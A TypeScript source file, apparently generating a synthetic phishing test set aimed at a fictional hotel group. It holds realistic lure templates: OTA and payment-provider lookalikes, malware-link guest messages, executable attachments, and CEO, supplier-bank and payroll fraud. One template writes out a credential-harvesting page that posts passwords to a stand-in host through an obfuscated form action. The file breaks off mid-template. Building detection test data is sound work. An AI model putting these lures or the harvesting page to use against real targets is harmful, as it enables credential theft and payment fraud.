// The twentieth unseen set: phishing sent to Casa Albufeira Hotels (corp.example), a Portuguese hotel group
// with hotels in Lisbon, Porto, the Algarve, Andalusia and London. Extranet and channel-manager lookalikes,
// "guest" messages with malware links, fake group bookings, review and business-profile lures, supplier
// bank changes, the chief executive on free mail, tax, parcel and payment-provider lures; the Portuguese,
// Spanish, French and German ones are in unseen-20-local.ts.
import type { SeededRandom } from './generate.js';
import { diskImage, legacyMacroDocument, macroWorkbook, oneNote, qrJpeg, qrPng, zipOf } from './payloads.js';
import { LOCAL_PHISHING } from './unseen-20-local.js';
import {
  addDays,
  addr,
  alnum,
  box,
  build,
  CEO,
  CFO,
  chance,
  compose,
  compromised,
  digits,
  esc,
  freeAuth,
  freemail,
  GM_LONDON,
  hex,
  IT,
  int,
  longDate,
  money,
  ORG,
  ownDomain,
  type Person,
  passes,
  prop,
  quote,
  type R,
  RELAYS,
  ROLE_BOXES,
  relayFor,
  runTemplates,
  STAFF,
  shortDate,
  someone,
  spoofed,
  staffIn,
  type Template,
  upper,
  when,
} from './unseen-20-scene.js';
import { onePagePdf, protectedZip } from './unseen-payloads.js';

const to = (p: Person) => addr(p.name, p.email);
const finance = (r: R) => r.pick(STAFF.filter((p) => /Accounts|Finance|Purchasing/.test(p.role)));

const PHISHING: Template[] = [
  {
    name: 'booking-guest-message-lookalike',
    kind: 'ota-extranet-credential',
    make: (r) => {
      const p = prop(r);
      const d = when(r);
      const dom = r.pick([
        'extranet-bookingpartner.com',
        'admin-booking-hub.com',
        'partner-bookings-messages.com',
      ]);
      const g = someone(r, r.pick(['en', 'de', 'fr', 'us']));
      const res = digits(r, 10);
      const url = `https://${r.pick(['admin', 'secure', 'extranet'])}.${dom}/hotel/hoteladmin/messaging/?hotel_id=${p.hotelId}&res_id=${res}&ses=${hex(r, 24)}`;
      const l = compose({
        brand: 'Booking.com',
        color: '#003580',
        title: r.pick(['You have a new message from a guest', 'Unanswered guest message – action required']),
        greeting: 'Dear partner,',
        paras: [
          `${g.name} sent a message about reservation ${res} at ${p.name}.`,
          r.pick([
            'The guest is waiting for your answer. Reservations with unanswered messages for more than 24 hours may be cancelled free of charge for the guest and affect your property ranking.',
            'Please reply within 12 hours. Messages left unanswered are reported to our partner quality team.',
          ]),
        ],
        rows: [
          ['Guest', g.name],
          ['Check-in', shortDate(addDays(d, int(r, 3, 40)))],
          ['Reservation number', res],
        ],
        button: { label: 'Read message', url },
        footer: [
          '© Copyright Booking.com 2025',
          'Booking.com B.V., Oosterdokskade 163, 1011 DL Amsterdam, Netherlands',
        ],
      });
      return build(r, {
        from: addr('Booking.com', `noreply@${dom}`),
        auth: ownDomain(r, dom),
        relay: relayFor(r, dom),
        to: box(p),
        subject: r.pick([
          `New message from guest ${g.name}`,
          `Reservation ${res}: guest message waiting`,
          `⚠ Guest message pending – ${p.name}`,
        ]),
        ...l,
        date: d,
      });
    },
  },
  {
    name: 'booking-extranet-verification',
    kind: 'ota-extranet-credential',
    make: (r) => {
      const p = prop(r);
      const dom = r.pick([
        'booking-partnerverify.com',
        'bookings-extranet-secure.com',
        'verify-partner-booking.net',
      ]);
      const url = `https://${dom}/account/verify?property=${p.hotelId}&lang=en-gb&t=${alnum(r, 32)}`;
      const hours = r.pick([24, 48, 72]);
      const l = compose({
        brand: 'Booking.com Partner Hub',
        color: '#003580',
        greeting: `Dear ${p.name} team,`,
        paras: [
          r.pick([
            'As part of our updated security requirements, all accommodation partners must confirm their account details.',
            'We have detected irregular login attempts to your extranet and temporarily limited your account.',
          ]),
          `If verification is not completed within ${hours} hours, your property will be closed for new bookings and pending payouts will be held.`,
        ],
        button: { label: 'Verify account', url },
        sign: ['Kind regards,', 'Booking.com Partner Support'],
      });
      return build(r, {
        from: addr('Booking.com Partner Hub', r.pick([`partner-support@${dom}`, `security@${dom}`])),
        auth: ownDomain(r, dom),
        relay: relayFor(r, dom),
        to: box(p),
        subject: r.pick([
          `Action required: verify your property ID ${p.hotelId}`,
          'Your extranet access has been limited',
          'Important: account verification within 48h',
        ]),
        html: l.html,
        text: chance(r, 0.5) ? l.text : undefined,
      });
    },
  },
  {
    name: 'ota-relay-guest-message-link',
    kind: 'guest-message-malware-link',
    make: (r) => {
      // Sent through the OTA's own messaging by a "guest" who made a booking: the relay signs it.
      const p = prop(r);
      const g = someone(r, r.pick(['en', 'us', 'de']));
      const res = digits(r, 10);
      const link = r.pick([
        `https://www.dropbox.com/scl/fi/${alnum(r, 21)}/${g.last}_documents.zip?rlkey=${alnum(r, 25)}&dl=1`,
        `https://files-${alnum(r, 5)}.${r.pick(['guestdocs-share.com', 'photoalbum-view.net'])}/d/${alnum(r, 10)}`,
        `https://drive.google.com/file/d/1${alnum(r, 32)}/view?usp=sharing`,
      ]);
      const body = r.pick([
        `Hello, I booked your hotel for ${int(r, 2, 6)} nights. My son has a serious allergy (nuts and sesame), I put the doctor's letter and the list of products here, please check before our arrival and confirm the kitchen can follow it: ${link}\nThank you very much`,
        `Hi, I am writing because I stayed at your property last month and my bank shows I was charged twice. I attached screenshots of the statement, please look: ${link}\nI will have to open a dispute if I don't hear back today.`,
        `Good afternoon. I left a bag with my medicines in the room. Here the photo of the bag and what is inside so housekeeping can find it ${link} Please answer fast, I really need them.`,
      ]);
      const text = `##- Please type your reply above this line -##\n\nNew message from guest\n\n${g.name} wrote:\n\n${body}\n\nReservation: ${res}\nProperty: ${p.name}\n\nReply to this email to answer the guest, or use the extranet inbox:\nhttps://admin.booking.com/hotel/hoteladmin/extranet_ng/manage/messaging/inbox.html?hotel_id=${p.hotelId}`;
      return build(r, {
        from: addr(
          `${g.name} via Booking.com`,
          `${g.first.toLowerCase()}.${alnum(r, 6)}.${res.slice(0, 6)}@guest.booking.com`,
        ),
        auth: {
          ...compromised('booking.com'),
          fromDomain: 'guest.booking.com',
          mailfrom: 'bounces.booking.com',
        },
        relay: {
          host: `mailout-${int(r, 100, 400)}.booking.com`,
          ip: `185.28.${int(r, 20, 23)}.${int(r, 2, 250)}`,
        },
        to: box(p),
        subject: `We received this message from ${g.name}`,
        text,
      });
    },
  },
  {
    name: 'guest-complaint-photos-freemail',
    kind: 'guest-complaint-malware-link',
    make: (r) => {
      const p = prop(r);
      const lang = r.pick(['en', 'us'] as const);
      const g = someone(r, lang);
      const from = freemail(r, g.name, lang);
      const id = alnum(r, 10);
      const link = r.pick([
        `https://${r.pick(['photos-cloudview.com', 'imgshare-secure.net', 'my-gallery-files.com'])}/album/${id}`,
        `https://${alnum(r, 8)}.${r.pick(['web.app', 'pages.dev'])}/photos/${id}`,
        `https://1drv.ms/u/s!${alnum(r, 18)}?e=${alnum(r, 6)}`,
      ]);
      const issue = r.pick([
        'there were bed bugs in room — my daughter has bites all over her arms',
        'the bathroom ceiling had black mould and the shower was leaking into the bedroom',
        'we found hair and stains on the sheets and nobody came when we called reception',
        'my wife slipped on the wet floor at the pool and nobody had put a sign',
      ]);
      const text = r.pick([
        `Hello,\n\nWe stayed at ${p.name} from ${shortDate(addDays(when(r), 0))} and I must say ${issue}. I took photos and videos of everything, you can see them here:\n\n${link}\n\nI expect a full refund or I will publish them on TripAdvisor and Google and contact my lawyer.\n\n${g.name}`,
        `hi\n${issue}. photos here ${link}\nplease reply asap i want my money back\n${g.first}\n\nSent from my iPhone`,
        `Dear Manager,\n\nI am very disappointed. During our stay ${issue}.\n\nPlease see the pictures (the file is big so I uploaded it): ${link}\n\nI would appreciate a response within 48 hours before I post a review.\n\nRegards,\n${g.name}`,
      ]);
      return build(r, {
        from: addr(g.name, from),
        auth: freeAuth(from),
        relay: RELAYS.google(r),
        to: r.pick([box(p), `info@corp.example`, to(staffIn(r))]),
        subject: r.pick([
          'Complaint about my stay',
          'URGENT - bed bugs / photos',
          `Terrible experience at ${p.name}`,
          'Refund request with photos',
        ]),
        text,
      });
    },
  },
  {
    name: 'booking-payout-bank-details',
    kind: 'ota-payout-bank-lure',
    make: (r) => {
      const p = prop(r);
      const dom = r.pick([
        'booking-finance-partners.com',
        'payouts-bookingpartner.net',
        'bookingpay-support.com',
      ]);
      const amount = money(r, 2400, 38000);
      const l = compose({
        brand: 'Booking.com',
        color: '#003580',
        title: 'Your payout is on hold',
        paras: [
          `We were unable to transfer EUR ${amount} for reservations paid online (Payments by Booking.com) to the bank account on file for ${p.name}.`,
          'The receiving bank rejected the transfer. To release the payout, please confirm the bank details for your property in the secure form below. Payouts not claimed within 5 business days are returned to guests.',
        ],
        button: {
          label: 'Update payout details',
          url: `https://${dom}/finance/payout-details?hid=${p.hotelId}&ref=${upper(r, 8)}`,
        },
        footer: ['Booking.com Finance – Payments by Booking.com'],
      });
      return build(r, {
        from: addr('Booking.com Finance', `finance@${dom}`),
        auth: ownDomain(r, dom),
        relay: RELAYS.sendgrid(r),
        to: r.pick([box(p), ROLE_BOXES.finance]),
        subject: r.pick(['Payout failed – bank details required', `Payout of EUR ${amount} on hold`]),
        ...l,
      });
    },
  },
  {
    name: 'expedia-partner-central-expiry',
    kind: 'ota-password-expiry',
    make: (r) => {
      const p = prop(r);
      const dom = r.pick(['expediapartner-central.com', 'partnercentral-expedia-group.net']);
      const url = `https://www.${dom}/Account/Logon?ReturnUrl=%2fhotel%2f${p.hotelId}&sid=${hex(r, 20)}`;
      const l = compose({
        brand: 'Expedia Partner Central',
        color: '#1f2b6c',
        greeting: 'Hello,',
        paras: [
          `Your Partner Central password for property ${p.name} (ID ${int(r, 1000000, 9999999)}) expires today.`,
          'To keep receiving reservations from Expedia, Hotels.com and Vrbo, sign in and choose a new password.',
        ],
        button: { label: 'Keep current password', url },
        sign: ['Expedia Group Partner Support'],
      });
      return build(r, {
        from: addr(
          'Expedia Partner Central',
          r.pick(['no-reply@expediapartnercentral.com', `no-reply@${dom}`]),
        ),
        auth: null,
        relay: relayFor(r, dom),
        to: box(p),
        subject: 'Password expiration notice',
        html: l.html,
      });
    },
  },
  {
    name: 'airbnb-host-payout-suspended',
    kind: 'ota-payout-bank-lure',
    make: (r) => {
      const p = prop(r, 'PT');
      const dom = r.pick(['airbnb-hostcenter.com', 'host-resolutions-airbnb.net']);
      const l = compose({
        brand: 'Airbnb',
        color: '#ff385c',
        greeting: 'Hi there,',
        paras: [
          'We weren’t able to verify your payout method. Your upcoming payouts have been paused until you confirm your identity and bank account.',
          'This takes about 5 minutes. You will need your bank card to confirm ownership of the account.',
        ],
        button: {
          label: 'Confirm payout method',
          url: `https://${dom}/users/payout_methods/verify?listing=${digits(r, 8)}`,
        },
        footer: ['Airbnb Ireland UC, 8 Hanover Quay, Dublin 2, Ireland'],
      });
      return build(r, {
        from: addr('Airbnb', `automated@${dom}`),
        auth: ownDomain(r, dom),
        relay: relayFor(r, dom),
        to: box(p),
        subject: 'Action required: your payouts are paused',
        ...l,
      });
    },
  },
  {
    name: 'tripadvisor-review-complaint',
    kind: 'review-platform-lure',
    make: (r) => {
      const p = prop(r);
      const dom = r.pick(['tripadvisor-ownerscenter.com', 'ta-management-response.com']);
      const l = compose({
        brand: 'Tripadvisor',
        color: '#00aa6c',
        title: 'A review of your property was reported',
        paras: [
          `A traveller has submitted a review of ${p.name} alleging ${r.pick(['food poisoning at breakfast', 'a theft from the room safe', 'discrimination by reception staff'])}. Because of the seriousness of the claims, the review and the attached evidence will be published in 48 hours unless the owner responds.`,
          'Please review the complaint and the traveller’s evidence and submit your management response.',
        ],
        button: {
          label: 'View complaint & evidence',
          url: `https://www.${dom}/ManagementCenter/Review-${digits(r, 9)}?evidence=download`,
        },
        footer: ['Tripadvisor LLC, 400 1st Avenue, Needham, MA 02494, USA'],
      });
      return build(r, {
        from: addr('Tripadvisor Management Center', `owners@${dom}`),
        auth: ownDomain(r, dom),
        relay: RELAYS.amazonses(r),
        to: r.pick([ROLE_BOXES.marketing, to(GM_LONDON), box(p)]),
        subject: r.pick(['Serious complaint reported – response required', `Review reported for ${p.name}`]),
        ...l,
      });
    },
  },
  {
    name: 'google-business-profile-suspension',
    kind: 'business-profile-lure',
    make: (r) => {
      const p = prop(r);
      const gmail = `${r.pick(['gbp.policy.team', 'google.business.review', 'merchant.support.center'])}${int(r, 10, 99)}@gmail.com`;
      const url = r.pick([
        `https://sites.google.com/view/gbp-appeal-${alnum(r, 6)}/appeal`,
        `https://docs.google.com/forms/d/e/1FAIpQL${alnum(r, 40)}/viewform`,
      ]);
      const text = `Google Business Profile\n\nYour Business Profile "${p.name}" has been suspended for violating Google's policies (misrepresentation of business information).\n\nCustomers can no longer see your business on Google Search and Maps.\n\nIf you believe this is a mistake, submit an appeal within 72 hours:\n${url}\n\nAfter this period the suspension will be permanent and your reviews will be deleted.\n\nGoogle Business Profile Team`;
      return build(r, {
        from: addr('Google Business Profile', gmail),
        auth: freeAuth(gmail),
        relay: RELAYS.google(r),
        to: r.pick([ROLE_BOXES.marketing, box(p)]),
        subject: r.pick([
          'Your Business Profile has been suspended',
          'Business Profile suspension notice',
          'Final notice: business listing removed',
        ]),
        text,
      });
    },
  },
  {
    name: 'siteminder-sync-failure-login',
    kind: 'channel-manager-credential',
    make: (r) => {
      const p = prop(r);
      const dom = r.pick(['siteminder-platform.com', 'app-siteminder.net', 'siteminder.login-portal.test']);
      const chans = r.pick(['Booking.com, Expedia', 'Booking.com', 'Expedia, Hotelbeds, Booking.com']);
      const l = compose({
        brand: 'SiteMinder',
        color: '#2a2a72',
        title: 'Channel synchronisation failed',
        paras: [
          `Rates and availability for ${p.name} could not be delivered to ${chans} since ${int(r, 2, 11)}:00 today. Overbookings may occur until the connection is restored.`,
          'Your session token has expired. Please sign in to re-authorise the connection.',
        ],
        rows: [
          ['Property', p.name],
          ['Failed updates', String(int(r, 40, 900))],
          ['Error', r.pick(['AUTH_TOKEN_EXPIRED', '401 Unauthorized', 'CM-4012'])],
        ],
        button: {
          label: 'Sign in to SiteMinder',
          url: `https://${dom}/login?redirect=%2Fchannel-manager%2F${p.hotelId}`,
        },
      });
      return build(r, {
        from: addr('SiteMinder', `notifications@${dom}`),
        auth: ownDomain(r, dom),
        relay: relayFor(r, dom),
        to: r.pick([ROLE_BOXES.revenue, box(p)]),
        subject: r.pick(['Urgent: channel connection lost', `[SiteMinder] Sync failed – ${p.name}`]),
        ...l,
      });
    },
  },
  {
    name: 'mews-invoice-html-attachment',
    kind: 'html-attachment-credential',
    make: (r) => {
      const p = prop(r);
      const post = `https://${r.pick(['mews-billing.com', 'cdn-invoicesafe.net', 'secure-docs-view.test'])}/api/${alnum(r, 8)}.php`;
      const victim = staffIn(r);
      const page = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Mews – Sign in</title>
<style>body{font-family:Arial;background:#f4f6fb}form{width:340px;margin:90px auto;background:#fff;padding:30px;border-radius:8px}</style></head>
<body><form method="POST" action="${post}"><h2>Mews</h2><p>Sign in to view invoice ${upper(r, 3)}-${digits(r, 6)}</p>
<input type="email" name="email" value="${victim.email}"><br><input type="password" name="password" placeholder="Password"><br>
<button type="submit">Sign in</button></form>
<script>document.forms[0].onsubmit=function(){this.action=atob("${Buffer.from(post).toString('base64')}");}</script></body></html>`;
      const text = r.pick([
        `Hello,\n\nPlease find attached the invoice for the Mews subscription of ${p.name}.\n\nKind regards,\nMews Billing`,
        'Invoice attached. Pleasе review and confirm.\n\nMews Accounts',
      ]);
      const dom = r.pick(['mews-billing.com', 'mewssystems-invoices.com']);
      return build(r, {
        from: addr('Mews Billing', `billing@${dom}`),
        auth: ownDomain(r, dom),
        relay: relayFor(r, dom),
        to: to(victim),
        subject: r.pick([
          'Mews invoice',
          `Invoice ${upper(r, 2)}${digits(r, 7)} – Mews Systems`,
          'Your subscription invoice is ready',
        ]),
        text,
        attachments: [
          { type: 'text/html', name: `Mews_Invoice_${digits(r, 6)}.html`, content: Buffer.from(page) },
        ],
      });
    },
  },
  {
    name: 'opera-cloud-password-expiry',
    kind: 'pms-credential',
    make: (r) => {
      const p = prop(r);
      const dom = r.pick(['oraclehospitality-cloud.com', 'opera-cloud-signin.net']);
      const v = staffIn(r);
      const html = `<html><body style="font-family:Segoe UI,Arial"><div style="border-top:4px solid #c74634;padding:20px;max-width:560px">
<p><b>ORACLE</b> Hospitality</p><p>Hi ${esc(v.name.split(' ')[0])},</p>
<p>Your OPERA Cloud password for tenant <b>CASAALB${digits(r, 2)}</b> (${esc(p.name)}) will expire in <b>${int(r, 1, 3)} hours</b>. After expiry you will not be able to check guests in or out.</p>
<p><a href="https://${dom}/identity/ui/reset?tenant=CASAALB&user=${encodeURIComponent(v.email)}" style="background:#c74634;color:#fff;padding:10px 18px;text-decoration:none">Reset password</a></p>
<p style="font-size:11px;color:#888">Oracle Hospitality, Cloud Operations. Do not reply to this message.</p></div></body></html>`;
      return build(r, {
        from: addr('Oracle Hospitality', `no-reply@${dom}`),
        auth: ownDomain(r, dom),
        relay: relayFor(r, dom),
        to: to(v),
        subject: 'OPERA Cloud: your password expires today',
        html,
      });
    },
  },
  {
    name: 'adyen-kyc-payout-hold',
    kind: 'payment-provider-credential',
    make: (r) => {
      const dom = r.pick(['adyen-customer-area.com', 'ca-live-adyen.net', 'adyen.kyc-review.test']);
      const l = compose({
        brand: 'Adyen',
        color: '#0abf53',
        greeting: 'Dear merchant,',
        paras: [
          `Your merchant account CasaAlbufeiraHotels${r.pick(['ECOM', 'POS', 'EU'])} has been placed under review as part of our periodic Know Your Customer checks.`,
          'Settlements are suspended until the account holder’s identity documents and ultimate beneficial owner details are re-submitted in the Customer Area.',
        ],
        button: {
          label: 'Log in to Customer Area',
          url: `https://${dom}/ca/ca/login.shtml?kyc=${hex(r, 16)}`,
        },
        sign: ['Adyen Risk & Compliance'],
      });
      return build(r, {
        from: addr('Adyen Compliance', `compliance@${dom}`),
        auth: ownDomain(r, dom),
        relay: RELAYS.mailgun(r),
        to: r.pick([ROLE_BOXES.finance, to(CFO)]),
        subject: r.pick(['KYC review: settlements suspended', 'Action required on your Adyen account']),
        ...l,
      });
    },
  },
  {
    name: 'stripe-account-restricted',
    kind: 'payment-provider-credential',
    make: (r) => {
      const dom = r.pick([
        'stripe-dashboard-verify.com',
        'support-stripe.help',
        'stripe.account-review.example',
      ]);
      const text = `Your Stripe account for ${r.pick(['Casa Albufeira London Bloomsbury', 'Tasca da Casa', 'Casa Albufeira Hotels'])} has been restricted.\n\nWe noticed unusual refund activity and need to verify the business representative. Payouts are paused until verification is complete.\n\nVerify now: https://${dom}/account/onboarding?acct=acct_1${alnum(r, 15)}\n\n— The Stripe team`;
      return build(r, {
        from: addr('Stripe', `notifications@${dom}`),
        auth: ownDomain(r, dom),
        relay: relayFor(r, dom),
        to: r.pick([to(r.pick(STAFF.filter((x) => x.lang === 'en'))), ROLE_BOXES.finance]),
        subject: 'Your account has been restricted',
        text,
      });
    },
  },
  {
    name: 'group-booking-protected-zip',
    kind: 'group-booking-malware-attachment',
    make: (r) => {
      const p = prop(r);
      const agency = r.pick([
        ['Meridian Incentive Travel', 'meridian-incentives.com'],
        ['Atlas Group Tours', 'atlasgrouptours-eu.com'],
        ['Blue Harbour Events', 'blueharbour-events.net'],
      ]);
      const a = someone(r, r.pick(['en', 'us', 'de']));
      const pax = int(r, 24, 80);
      const pw = `${int(r, 1000, 9999)}`;
      const start = addDays(when(r), int(r, 30, 150));
      const text = `Dear Sales Team,\n\nWe are organising a ${r.pick(['corporate incentive trip', 'pharmaceutical congress delegation', 'university alumni tour'])} for ${pax} guests to ${p.city} and would like a quotation for ${Math.ceil(pax / 2)} twin rooms, ${int(r, 3, 5)} nights from ${longDate(start)}, with a welcome dinner and meeting room for one day.\n\nThe full itinerary, rooming list and the client's requirements are in the attached file (protected for data privacy, password: ${pw}).\n\nCould you please send your best group rate by ${r.pick(['Friday', 'tomorrow', 'end of the week'])}? The client needs to confirm quickly.\n\nBest regards,\n${a.name}\nGroups & Events\n${agency[0]}`;
      return build(r, {
        from: addr(a.name, `${a.first.toLowerCase()}@${agency[1]}`),
        auth: ownDomain(r, agency[1]),
        relay: relayFor(r, agency[1]),
        to: r.pick([ROLE_BOXES.events, to(r.pick(STAFF.filter((x) => /Events|Sales/.test(x.role))))]),
        subject: r.pick([
          `Group request ${pax} pax – ${p.city} – ${longDate(start)}`,
          'RFP: group accommodation + dinner',
          `Quotation request – ${agency[0]}`,
        ]),
        text,
        attachments: [
          {
            type: 'application/zip',
            name: `Itinerary_${plain(p.city)}_${pax}pax.zip`,
            content: protectedZip(
              r.pick(['Itinerary_and_Rooming_List.pdf.exe', 'Group_Itinerary.js', 'Rooming_List.xlsm']),
              int(r, 1, 10000),
            ),
          },
        ],
      });
    },
  },
  {
    name: 'wedding-inquiry-onenote',
    kind: 'onenote-attachment',
    make: (r) => {
      const p = prop(r, r.pick(['PT', 'ES'] as const));
      const c = someone(r, r.pick(['en', 'us']));
      const from = freemail(r, c.name, 'en');
      const text = `Hi!\n\nMy fiancé and I are planning our wedding at ${p.name} for about ${int(r, 60, 140)} guests next ${r.pick(['June', 'September', 'May'])}. I put together our vision board, guest numbers and the menu ideas in the OneNote attached - would you be able to take a look and let us know availability and packages?\n\nCan't wait to hear from you,\n${c.first}`;
      return build(r, {
        from: addr(c.name, from),
        auth: freeAuth(from),
        relay: from.includes('gmail') ? RELAYS.google(r) : RELAYS.microsoft(r),
        to: ROLE_BOXES.events,
        subject: r.pick([
          'Wedding enquiry 💍',
          'Destination wedding - availability',
          'Wedding venue enquiry',
        ]),
        text,
        attachments: [
          {
            type: 'application/octet-stream',
            name: `Wedding_Plan_${c.last}.one`,
            content: oneNote('Open_Vision_Board.hta'),
          },
        ],
      });
    },
  },
  {
    name: 'uk-supplier-bank-change-lookalike',
    kind: 'supplier-bank-change',
    make: (r) => {
      const sup = r.pick([
        ['Thames Linen Services', 'thameslinen.co.uk', 'thameslinen-co.uk'],
        ['Westbury Fine Wines', 'westburywines.co.uk', 'westbury-wines.co.uk'],
        ['Crown Catering Supplies', 'crowncatering.co.uk', 'crowncaterlng.co.uk'],
      ]);
      const c = someone(r, 'en');
      const sort = `${int(r, 10, 99)}-${int(r, 10, 99)}-${int(r, 10, 99)}`;
      const text = `Dear ${r.pick(['Accounts', 'James', 'Sir/Madam'])},\n\nPlease be advised that following our annual audit we have moved our business banking to a new provider. With immediate effect, all payments for outstanding and future invoices should be made to the account below:\n\nAccount name: ${sup[0]} Ltd\nSort code: ${sort}\nAccount number: ${digits(r, 8)}\n\nOur old account will be closed at the end of this month, so any payment sent there will be returned and may incur charges. Kindly update your records and confirm by return email once done. We currently show invoices ${upper(r, 2)}${digits(r, 5)} and ${upper(r, 2)}${digits(r, 5)} as outstanding (£${money(r, 1800, 14000)}).\n\nKind regards,\n\n${c.name}\nCredit Control\n${sup[0]}`;
      return build(r, {
        from: addr(`${c.name} | ${sup[0]}`, `${c.first.toLowerCase()}.${c.last.toLowerCase()}@${sup[2]}`),
        auth: ownDomain(r, sup[2]),
        relay: RELAYS.microsoft(r),
        to: r.pick([addr('James Whitfield', 'james.whitfield@corp.example'), ROLE_BOXES.ap]),
        subject: r.pick([
          'Change of bank details',
          'Updated remittance information',
          'IMPORTANT: new bank account',
        ]),
        text,
      });
    },
  },
  {
    name: 'ceo-gift-cards-freemail',
    kind: 'ceo-fraud-gift-cards',
    make: (r) => {
      const v = r.pick(STAFF.filter((x) => x.lang !== 'es'));
      const from = `${r.pick(['ricardo.sequeira.ceo', 'r.sequeira.office', 'ricardosequeira.exec'])}${int(r, 1, 99)}@${r.pick(['gmail.com', 'outlook.com'])}`;
      const first = r.pick([
        `${v.name.split(' ')[0]}, are you at your desk? I need you to handle something for me quickly and discreetly.`,
        'Are you available? I need a favour, I am in a meeting and can’t talk on the phone.',
        'Hi, let me know when you get this. Urgent.',
      ]);
      const second = chance(r, 0.6)
        ? `\n\nI want to surprise ${int(r, 5, 12)} of our best staff this week with ${r.pick(['Amazon', 'Apple', 'Google Play'])} gift cards (€${r.pick([100, 150, 200])} each). Buy them today, scratch the back and send me photos of the codes. You will be reimbursed by finance.`
        : '';
      return build(r, {
        from: addr(CEO.name, from),
        auth: freeAuth(from),
        relay: from.includes('gmail') ? RELAYS.google(r) : RELAYS.microsoft(r),
        to: to(v),
        subject: r.pick(['Quick favour', 'Are you available?', 'Urgent', 'Confidential request']),
        text: `${first}${second}\n\nRicardo\nSent from my mobile`,
      });
    },
  },
  {
    name: 'ceo-wire-acquisition-reply-to',
    kind: 'ceo-fraud-wire',
    make: (r) => {
      const look = r.pick(['corp-example.com', 'corpexample.net', 'corp.examp1e.com']);
      const reply = r.pick([
        `ricardo.sequeira@${look}`,
        `ceo.office@${r.pick(['executive-mail.net', 'protonmail.com'])}`,
      ]);
      const amount = money(r, 38000, 240000);
      const v = r.pick([CFO, ...STAFF.filter((x) => /Accounts|Finance/.test(x.role))]);
      const text = `${v.name.split(' ')[0]},\n\nWe are closing the purchase of a ${r.pick(['boutique hotel in Tavira', 'guesthouse in Comporta', 'restaurant building in Sintra'])}. This is strictly confidential until the announcement — please do not discuss it with anyone, including the team in Lisbon.\n\nI need a first payment of EUR ${amount} to the escrow account of the lawyers today. Dr. ${r.pick(['Miguel Araújo', 'Carlos Pinto', 'Paulo Reis'])} will send you the details directly. Can you make it before 15:00?\n\nReply only to this email.\n\nRicardo Sequeira\nCEO, ${ORG}`;
      return build(r, {
        from: addr(CEO.name, CEO.email),
        replyTo: addr(CEO.name, reply),
        auth: spoofed(
          r,
          'corp.example',
          r.pick(['mailer.sendpulse-smtp.test', 'vps-77182.example', 'smtp.bizmail.invalid']),
        ),
        relay: relayFor(r, r.pick(['vps-77182.example', 'cloud-host-22.test'])),
        to: to(v),
        subject: r.pick(['Confidential – acquisition', 'Payment today', 'Project Farol']),
        text,
        mayDropAuth: false,
      });
    },
  },
  {
    name: 'payroll-diversion-employee',
    kind: 'payroll-diversion',
    make: (r) => {
      const e = r.pick(STAFF.filter((x) => !/HR/.test(x.role)));
      const from = freemail(r, e.name, e.lang === 'en' ? 'en' : e.lang);
      const text =
        e.lang === 'en'
          ? `Hi,\n\nI have changed banks and would like my salary paid into my new account from this month. Could you update it? New details below:\n\nBank: ${r.pick(['Monzo', 'Revolut', 'Starling'])}\nSort code: ${int(r, 10, 99)}-${int(r, 10, 99)}-${int(r, 10, 99)}\nAccount: ${digits(r, 8)}\n\nThanks a lot,\n${e.name}`
          : `Hi ${r.pick(['Sofia', 'team'])},\n\nI opened a new account and I need my salary to go there from this month, the old one will be closed. Can you update please?\n\nIBAN: ${r.pick(['LT', 'PT', 'ES'])}${digits(r, 2)} ${digits(r, 4)} ${digits(r, 4)} ${digits(r, 4)} ${digits(r, 4)}\n\nThank you\n${e.name.split(' ')[0]}`;
      return build(r, {
        from: addr(e.name, from),
        auth: freeAuth(from),
        relay: RELAYS.google(r),
        to: r.pick([ROLE_BOXES.hr, addr('Sofia Antunes', 'sofia.antunes@corp.example')]),
        subject: r.pick(['Bank details change', 'New bank account for salary', 'Update direct deposit']),
        text,
      });
    },
  },
  {
    name: 'hmrc-vat-refund',
    kind: 'tax-refund-lure',
    make: (r) => {
      const dom = r.pick(['hmrc-taxrefund.org', 'gov-uk-vatservice.com', 'hmrc.refunds-online.test']);
      const amt = money(r, 480, 6200);
      const l = compose({
        brand: 'GOV.UK',
        color: '#0b0c0c',
        title: 'HM Revenue & Customs',
        paras: [
          `After the last annual calculation of your VAT activity we have determined that you are eligible to receive a refund of £${amt}.`,
          'Please submit the refund request and allow us 3-6 days to process it. A refund can be delayed for a variety of reasons, for example submitting invalid records or applying after the deadline.',
        ],
        button: {
          label: 'Access your refund',
          url: `https://${dom}/vat/refund/claim?ref=${upper(r, 2)}${digits(r, 7)}`,
        },
        after: [`Reference: ${digits(r, 3)} ${digits(r, 4)} ${digits(r, 2)}`],
        footer: ['HM Revenue & Customs'],
      });
      return build(r, {
        from: addr('HMRC', r.pick([`refunds@${dom}`, 'noreply@tax.service.gov.uk'])),
        auth: null,
        relay: relayFor(r, dom),
        to: r.pick([
          addr('James Whitfield', 'james.whitfield@corp.example'),
          addr(GM_LONDON.name, GM_LONDON.email),
        ]),
        subject: r.pick(['Tax refund notification', `You are due a VAT refund of £${amt}`]),
        html: l.html,
      });
    },
  },
  {
    name: 'dhl-customs-fee',
    kind: 'parcel-fee-lure',
    make: (r) => {
      const dom = r.pick(['dhl-express-delivery.net', 'dhl.parcel-fees.test', 'mydhl-customs.com']);
      const waybill = digits(r, 10);
      const fee = r.pick(['2,99', '1,49', '3,20', '4,95']);
      const html = `<html><body style="font-family:Arial;background:#fc0;margin:0"><div style="background:#fff;margin:20px auto;max-width:560px;padding:24px">
<p style="color:#d40511;font-weight:bold;font-size:20px">DHL Express</p>
<p>Your shipment <b>${waybill}</b> is held at customs in ${r.pick(['Lisboa', 'Madrid', 'London Heathrow'])}.</p>
<p>Import duties of <b>€${fee}</b> have not been paid. Please pay within 48 hours or the parcel will be returned to the sender.</p>
<p><a href="https://${dom}/pay?awb=${waybill}" style="background:#d40511;color:#fff;padding:10px 20px;text-decoration:none">Pay now</a></p>
<p style="font-size:10px;color:#666">DHL International GmbH. All rights reserved.</p></div></body></html>`;
      return build(r, {
        from: addr(
          'DHL Express',
          r.pick([
            `noreply@${dom}`,
            `dhl-${alnum(r, 4)}@${r.pick(['mail-relay.test', 'cheap-smtp.example'])}`,
          ]),
        ),
        auth: ownDomain(r, dom),
        relay: relayFor(r, dom),
        to: r.pick([ROLE_BOXES.purchasing, to(staffIn(r))]),
        subject: r.pick([
          `Your parcel ${waybill} is on hold`,
          'DHL: customs payment required',
          'Delivery attempt failed',
        ]),
        html,
      });
    },
  },
  {
    name: 'm365-password-expiry-spoof',
    kind: 'm365-credential',
    make: (r) => {
      const v = staffIn(r);
      const host = r.pick([
        'corp-example.sharepoint-login.net',
        'login-corpexample.com',
